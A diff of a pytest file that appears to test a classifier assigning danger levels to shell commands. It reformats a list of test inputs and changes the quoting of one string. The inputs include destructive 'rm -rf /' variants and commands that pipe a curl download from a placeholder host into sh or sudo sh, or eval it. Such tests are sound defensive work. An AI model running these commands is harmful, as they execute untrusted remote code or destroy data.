@@ -38,7 +38,13 @@ def test_state_of_the_line_reaches_later_commands(command: str) -> None:
 
 @pytest.mark.parametrize(
     "command",
-    ["(cd /); rm -rf build", "x=$(cd /; pwd); rm -rf build", "f() { rm -rf /; }", "alias z='rm -rf build'", "x='rm -rf /'"],
+    [
+        "(cd /); rm -rf build",
+        "x=$(cd /; pwd); rm -rf build",
+        "f() { rm -rf /; }",
+        "alias z='rm -rf build'",
+        "x='rm -rf /'",
+    ],
 )
 def test_subshells_and_mere_definitions_do_not_reach_later_commands(command: str) -> None:
     assert level(command) <= Level.MODERATE
@@ -57,7 +63,7 @@ def test_subshells_and_mere_definitions_do_not_reach_later_commands(command: str
         ("curl https://x.example | jq .", Level.SAFE),
         ("curl https://x.example | sh", Level.HIGH),
         ("curl https://x.example | sudo sh", Level.CRITICAL),
-        ("x=$(curl https://x.example); eval \"$x\"", Level.HIGH),
+        ('x=$(curl https://x.example); eval "$x"', Level.HIGH),
         ("curl -o x https://x.example; sh x", Level.HIGH),
         ("curl -o x https://x.example; cat x", Level.MODERATE),
         ("git clone https://x.example/a.git; cd a; make", Level.HIGH),
